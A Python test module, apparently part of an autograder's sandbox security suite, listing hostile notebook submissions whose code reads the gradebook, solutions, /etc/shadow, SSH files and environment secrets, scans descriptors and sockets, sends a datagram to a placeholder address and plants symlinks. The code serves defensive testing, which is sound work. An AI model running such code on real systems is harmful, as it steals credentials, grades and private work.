"""Attacks that read what is not theirs: files, links, the network, the environment.

The classroom puts real folders in the place of @COURSE@, @HOME@, @TMP@, @REPO@, and the number of
its web server's port in the place of @PORT@: the attacker knows where things lie.
"""

from pathlib import Path

from tests.hostile.attack import Attack, attack

SHOW = """
    import glob, os, re
    def show(path):
        try:
            for name in ([path] if os.path.isfile(path) else glob.glob(path + "/**", recursive=True,
                                                                     include_hidden=True)):
                if os.path.isfile(name) and os.path.getsize(name) < 1 << 22:
                    text = open(name, errors="replace").read()
                    print("STOLEN:", name, text[:50].encode(), re.findall(r"BAIT-[\\w-]+", text))
                    print("STOLEN:", *text.split("### BEGIN HIDDEN TESTS")[1:2])
        except OSError as error:
            print(type(error).__name__)
    """


def reads(name: str, what: str, *paths: str, light: bool = False) -> Attack:
    """Show every file below some paths."""
    return attack(name, what, f"{SHOW}\n    for path in {paths!r}:\n        show(path)", "mse",
                  light=light, mild=True)


def linked(name: str, what: str, target: str) -> Attack:
    """A link in the submission, followed by the notebook; `target` is seen from its folder."""
    def put(folder: Path) -> None:
        (folder / "data").symlink_to(target)

    code = f"{SHOW}\n    show('data')\n    show('data/')"
    return attack(name, what, code, "mse", put=put, light=name == "link-solutions",
                  statuses=("graded", "malformed"), mild=True)


ATTACKS = [
    reads("read-gradebook", "reads the gradebook", "@COURSE@/gradebook.db", "../../../gradebook.db",
          "../../gradebook.db", light=True),
    reads("read-students", "reads the other students' work", "@COURSE@/submitted",
          "@COURSE@/autograded", "..", light=True),
    reads("read-solutions", "reads the solutions and their hidden tests", "@COURSE@/solutions",
          "@REPO@/solutions", "../../../solutions", light=True),
    reads("read-answers", "reads the bank of answers and the grader's source",
          "@REPO@/tests/answers", "@REPO@/labkit/grading", "@REPO@/labkit/authoring",
          "@REPO@/nbgrader_config.py", "@REPO@/.git/HEAD"),
    reads("read-editable", "finds the repository through the editable install", "@REPO@/tests"),
    reads("read-home", "reads the instructor's home", "@HOME@", "/root/.bash_history", "~",
          light=True),
    reads("read-tmp", "reads the host's temporary folders", "@TMP@"),
    reads("read-own", "reads its own notebook, hidden tests put in, from the working folder", ".",
          "@COURSE@/autograded/read-own"),
    reads("read-system", "reads accounts and machine ids of the system", "/etc/shadow",
          "/etc/machine-id", "/etc/hostname", "/var/log", "/etc/ssh"),
    attack("read-import", "imports the grader through the editable install", """
        import importlib, importlib.util, labkit, pathlib
        for name in ("labkit.grading", "labkit.grading.cells", "labkit.authoring",
                     "tests.answers.gradient_descent", "tests.hostile.attack"):
            try:
                module = importlib.import_module(name)
                print("STOLEN: GRADER", name, pathlib.Path(module.__file__).read_text()[:300])
            except Exception as error:
                print(type(error).__name__)
        for path in pathlib.Path(labkit.__file__).parents[1].glob("*"):
            if path.name in ("solutions", "tests", "gradebook.db", "nbgrader_config.py", ".git"):
                print("STOLEN: GRADER", path)
        """, "mse"),
    attack("read-walk", "looks through the whole file system for what is worth reading", """
        import os
        for folder, folders, names in os.walk("/"):
            folders[:] = [n for n in folders if (folder, n) not in (("/", "proc"), ("/", "sys"))
                          and n not in ("site-packages", "python3", "share", "lib64", "include")]
            for name in names:
                path = os.path.join(folder, name)
                if name.endswith((".db", ".key", ".txt", ".ipynb")) and os.path.isfile(path):
                    try:
                        text = open(path, errors="replace").read(100000)
                    except OSError:
                        continue
                    if "BAIT-" in text or "HIDDEN TESTS" in text:
                        print("STOLEN:", path, text)
        """, "mse", statuses=("graded", "timed out")),
    attack("read-environment", "reads the environment for secrets", """
        import os
        print("STOLEN:", {k: v for k, v in os.environ.items()})
        """, "mse", light=True, mild=True),
    attack("read-inherited", "looks through every descriptor that it inherited", """
        import os
        for number in range(3, 4096):
            try:
                path = os.readlink(f"/proc/self/fd/{number}")
            except OSError:
                continue
            for name in ("", "secret.txt", "../secret.txt", "gradebook.db", "../gradebook.db"):
                try:
                    other = os.open(name, os.O_RDONLY, dir_fd=number) if name else number
                    print("STOLEN:", path, name, os.pread(other, 100000, 0))
                except OSError:
                    pass
        """, "mse", light=True, mild=True),
    attack("network-loopback", "asks a web server on the loopback device, and the whole host", """
        import socket, urllib.request
        for host in ("127.0.0.1", "localhost", "[::1]", "0.0.0.0", socket.gethostname()):
            try:
                print("STOLEN:", urllib.request.urlopen(f"http://{host}:@PORT@/", timeout=1).read())
            except OSError as error:
                print(type(error).__name__)
        """, "mse", light=True, mild=True),
    attack("network-out", "asks a name server, sends a datagram, opens a raw socket", """
        import socket
        for what in (lambda: socket.getaddrinfo("example.org", 80),
                     lambda: socket.create_connection(("192.0.2.1", 80), 1),
                     lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                         b"pwned", ("192.0.2.1", 53)),
                     lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
                     lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)):
            try:
                print("HARM: network", what())
            except OSError as error:
                print(type(error).__name__)
        """, "mse"),
    attack("network-abstract", "connects to abstract unix sockets of the host", """
        import socket
        for name in (b"\\0bait-@PORT@", *[line.split()[-1].replace("@", "\\0", 1).encode()
                     for line in open("/proc/net/unix") if line.split()[-1][0] == "@"]):
            try:
                with socket.socket(socket.AF_UNIX) as one:
                    one.settimeout(0.5)
                    one.connect(name)
                    print("STOLEN:", name, one.recv(100))
            except OSError as error:
                print(type(error).__name__)
        """, "mse"),
    linked("link-solutions", "a link to the solutions", "../../../solutions"),
    linked("link-shadow", "a link to the system's passwords", "/etc/shadow"),
    linked("link-student", "a link to another student's folder", "../../ada/gradient_descent"),
    linked("link-gradebook", "a link to the gradebook", "../../../gradebook.db"),
    linked("link-endless", "a link to a file without an end", "/dev/zero"),
    linked("link-loop", "a link to the folder that it lies in", "."),
]
